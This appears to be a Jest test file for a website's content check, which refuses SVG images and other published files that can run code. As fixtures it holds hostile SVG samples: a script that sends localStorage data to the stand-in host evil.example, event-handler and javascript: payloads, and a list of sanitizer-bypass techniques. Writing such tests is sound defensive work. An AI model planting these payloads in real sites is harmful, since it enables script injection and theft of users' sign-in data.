/**
 * @jest-environment node
 *
 * content:check reads every SVG under public/, at any depth and in every folder (generated and
 * dot-folders too), and the build every SVG in the export: a picture passes, an image that can run
 * code fails with its file named. The hostile corpus (hostileSvgs.ts: the ways a check has been got
 * past, prefixes, entities, other encodings, CSS, copies) is refused file by file and wherever it
 * sits; what is published of a picture is the check's own writing of it; the real public/ folder passes.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { contentCollections } from '@/tools/checks/collections';
import { contentCheckReport } from '@/tools/checks/checkReport';
import { displayPath } from '@/lib/content/core';
import { checkPublicFiles, judgeExport, unpublishableFiles, unsafePublishedFiles } from '@/lib/content/publishedFiles';
import { checkedSvg, checkPublicSvgs, findUnsafeSvgs, svgProblems } from '@/lib/content/publicSvgs';
import { differential, hostileSvgs } from './hostileSvgs';
import { messagesOf } from './problems';

const picture = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n${inside}\n</svg>\n`;
const hostile = {
  script: picture('<script>fetch("https://evil.example/?" + localStorage.key(0))</script>'),
  'event handler': picture('<rect width="10" height="10" onmouseover="alert(1)"/>'),
  'javascript: address': picture('<use href="  JAVASCRIPT:alert(1)"/>'),
  foreignObject: picture('<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
};

let [project, publicDir] = ['', ''];
beforeEach(() => {
  project = fs.mkdtempSync(path.join(os.tmpdir(), 'public-svgs-'));
  publicDir = path.join(project, 'public');
  fs.mkdirSync(path.join(publicDir, 'images/sponsors/old'), { recursive: true });
  fs.writeFileSync(path.join(publicDir, 'images/sponsors/lab.svg'), picture('<circle cx="5" cy="5" r="4" fill="#336"/>'));
  fs.writeFileSync(path.join(publicDir, 'images/notes.txt'), '<script>not an image</script>');
});
afterEach(() => fs.rmSync(project, { recursive: true, force: true }));

describe('SVG images under public/', () => {
  it('lets a picture pass', () => {
    expect(findUnsafeSvgs(publicDir)).toEqual([]);
  });

  it.each(Object.entries(hostile))('refuses an image holding a %s, naming the file and the line', (_, svg) => {
    const file = path.join(publicDir, 'images/sponsors/old/logo.svg');
    fs.writeFileSync(file, svg);
    expect(findUnsafeSvgs(publicDir)).toEqual([expect.objectContaining({ file: displayPath(file), line: 2 })]);
  });

  it('tells the officer what was found, why it matters and what to do', () => {
    fs.writeFileSync(path.join(publicDir, 'logo.SVG'), hostile.script);
    const [line] = contentCheckReport(findUnsafeSvgs(publicDir), 'content', false).errors.slice(1);
    expect(line).toBe(
      `  ${displayPath(path.join(publicDir, 'logo.SVG'))}:2: NTC022 this image holds a <script> element (<script>): code in an image opened on this site can read members' sign-in. Export the SVG again without scripts or interactive parts (a plain or optimised SVG), or use a PNG or WebP image instead`,
    );
  });

  it("fails content:check with the path from the project's folder", () => {
    fs.writeFileSync(path.join(publicDir, 'images/sponsors/lab.svg'), hostile.foreignObject);
    const cwd = process.cwd();
    process.chdir(project);
    try {
      expect(messagesOf(checkPublicSvgs)).toEqual([
        expect.stringMatching(
          /^public\/images\/sponsors\/lab\.svg:2: NTC025 this image holds a piece of web page, .* \(<foreignObject>, and 1 more\)/,
        ),
      ]);
    } finally {
      process.chdir(cwd);
    }
    expect(contentCollections.map((c) => c.load)).toContain(checkPublicSvgs);
  });

  it('passes on the real public/ folder', () => {
    expect(findUnsafeSvgs()).toEqual([]);
    expect(unpublishableFiles()).toEqual([]);
  });
});

const corpus = hostileSvgs();
/** Where a file in public/ is published from: a folder of pictures, the generated copies (not in git), the root, and dot-paths. */
const PLACES = ['images/sponsors', 'generated/icons', '', '.hidden', 'images/.well-known/x'];

describe('the hostile SVG corpus', () => {
  it('holds the kinds a check has missed: prefixes, entities, encodings, CSS, links out, copies and depth', () => {
    const names = corpus.map((c) => c.name);
    expect(names.length).toBeGreaterThanOrEqual(36);
    for (const name of [
      ...['script-non-ascii-prefix', 'nested-svg-onload-non-ascii-prefix', 'xhtml-iframe-srcdoc', 'dtd-entity-script'],
      ...['script', 'on-attribute', 'foreign-object', 'javascript-entity-encoded', 'use-external-file', 'animate-href', 'set-href'],
      ...['shift-jis-cdata-differential', 'gbk-cdata-differential', 'big5-cdata-differential', 'utf-16-with-mark', 'declared-latin-1'],
      ...['style-url-javascript', 'style-data-url', 'style-element-import', 'fill-url-outside-host', 'image-absolute-https'],
      ...['use-bomb', 'use-loop', 'deep-nesting'],
    ])
      expect(names).toContain(`${name}.svg`);
  });

  it.each(corpus.map((c) => [c.name, c.bytes] as const))('refuses %s', (name, bytes) => {
    expect(svgProblems(bytes, name)).not.toEqual([]);
  });

  it('is refused by content:check and by the build wherever in public/ it sits, named by the public/ file', () => {
    const out = path.join(project, 'out');
    for (const place of PLACES)
      for (const { name, bytes } of corpus) {
        fs.mkdirSync(path.join(publicDir, place), { recursive: true });
        fs.writeFileSync(path.join(publicDir, place, name), bytes);
      }
    fs.cpSync(publicDir, out, { recursive: true });
    fs.writeFileSync(path.join(out, '.hidden.svg'), hostile.script);
    const expected = PLACES.flatMap((place) => corpus.map((c) => path.posix.join('public', place, c.name)));
    const cwd = process.cwd();
    process.chdir(project);
    try {
      expect([...new Set(findUnsafeSvgs('public').map((p) => p.file))].sort()).toEqual([...expected].sort());
      expect([...new Set(unsafePublishedFiles('out', 'public').map((p) => p.file))].sort()).toEqual(
        [...expected, 'out/.hidden.svg'].sort(),
      );
    } finally {
      process.chdir(cwd);
    }
  });
});

describe('what is published of an SVG', () => {
  const svgsOf = (dir: string) =>
    (fs.readdirSync(dir, { recursive: true }) as string[]).filter((f) => f.endsWith('.svg')).map((f) => path.join(dir, f));
  const ours = [...svgsOf(path.join(process.cwd(), 'public')), ...svgsOf(path.join(process.cwd(), 'e2e/public'))];

  it("is, for every SVG of public/ and the fixture, the check's writing of what it read, which reads back to the same bytes", () => {
    expect(ours.length).toBeGreaterThan(0);
    for (const file of ours) {
      const { problems, published } = checkedSvg(new Uint8Array(fs.readFileSync(file)), file);
      expect(problems).toEqual([]);
      expect(published).toMatch(/^<\?xml version="1\.0" encoding="UTF-8"\?>\n<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
      expect(checkedSvg(published!, file).published).toBe(published);
    }
  });

  it('holds no comment or CDATA section: the differential read as UTF-8 publishes its text, never the script behind it', () => {
    const utf8 = new TextDecoder().decode(differential('UTF-8', 0x41));
    const { published } = checkedSvg(utf8, 'x.svg');
    expect(published).toBe(
      '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n<text>A</text>\n</svg>\n',
    );
  });

  it('writes every name under one namespace declaration, and escapes what could end a text or attribute early', () => {
    const written =
      '<é:svg xmlns:é="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink">\r\n<é:title>a &lt;b&gt; ]]&gt; &amp; "c"</é:title>' +
      '<é:rect id="r" aria-label="x&#10;y&#9;z &quot;q&quot;"/><é:use l:href="#r"/><é:style><![CDATA[rect > g { fill: red }]]></é:style></é:svg>';
    expect(checkedSvg(written, 'x.svg').published).toBe(
      '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n' +
        '<title>a &lt;b&gt; ]]&gt; &amp; "c"</title><rect id="r" aria-label="x&#10;y&#9;z &quot;q&quot;"/><use xlink:href="#r"/>' +
        '<style>rect &gt; g { fill: red }</style></svg>\n',
    );
  });
});

describe('files under public/', () => {
  it('refuses a page, an XML file or a script, dot-files and upper case included', () => {
    for (const name of ['page.html', 'feed.XML', 'images/x.xhtml', '.well-known/a.js', 'no-extension']) {
      fs.mkdirSync(path.dirname(path.join(publicDir, name)), { recursive: true });
      fs.writeFileSync(path.join(publicDir, name), '<script>alert(1)</script>');
    }
    expect(unpublishableFiles(publicDir).map((p) => path.relative(publicDir, p.file))).toEqual(
      ['.well-known/a.js', 'images/x.xhtml', 'feed.XML', 'no-extension', 'page.html']
        .map((f) => path.relative(publicDir, path.join(publicDir, f)))
        .sort(),
    );
    expect(unpublishableFiles(publicDir)[0].message).toMatch(
      /^a \.js file is not published: a page, an XML file or a script opened on this site can read members' sign-in$/,
    );
    expect(contentCollections.map((c) => c.load)).toContain(checkPublicFiles);
  });

  it("lets pictures, videos, PDFs, fonts, text and data through, the image copies' record included", () => {
    for (const name of ['a.webp', 'b.PNG', 'c.mp4', 'd.pdf', 'e.woff2', 'robots.txt', 'generated/manifest.json']) {
      fs.mkdirSync(path.dirname(path.join(publicDir, name)), { recursive: true });
      fs.writeFileSync(path.join(publicDir, name), '');
    }
    expect(unpublishableFiles(publicDir)).toEqual([]);
  });
});

describe('the export the build publishes', () => {
  it('holds only what the build makes where it makes it, besides public/: pages, Next’s scripts, the worker, the feed, sealed files', () => {
    const out = path.join(project, 'out');
    const made = ['index.html', 'a/index.txt', '_next/static/chunks/a.js', '_next/static/css/a.css', 'sw.js', 'workbox-1a2b.js'];
    const more = ['events.ics', 'manifest.webmanifest', 'sealed/member.bin', 'CNAME', 'images/sponsors/lab.svg'];
    const strange = ['feed.xml', 'evil.js', 'a/page.htm', 'x/y.xhtml', '_next/static/x.html.xsl', 'sw.js.map'];
    for (const name of [...made, ...more, ...strange]) {
      fs.mkdirSync(path.dirname(path.join(out, name)), { recursive: true });
      fs.writeFileSync(path.join(out, name), name.endsWith('.svg') ? picture('<rect/>') : 'x');
    }
    fs.rmSync(path.join(publicDir, 'images/notes.txt'));
    const cwd = process.cwd();
    process.chdir(project);
    try {
      const { problems, svgs } = judgeExport('out', 'public');
      expect(problems.map((p) => p.file).sort()).toEqual(strange.map((name) => `out/${name}`).sort());
      expect(problems[0].message).toMatch(/^a \.\w+ file is not published here: a page, an XML file or a script opened on this site/);
      expect(svgs).toEqual([{ file: 'out/images/sponsors/lab.svg', text: checkedSvg(picture('<rect/>'), 'x').published }]);
    } finally {
      process.chdir(cwd);
    }
  });
});
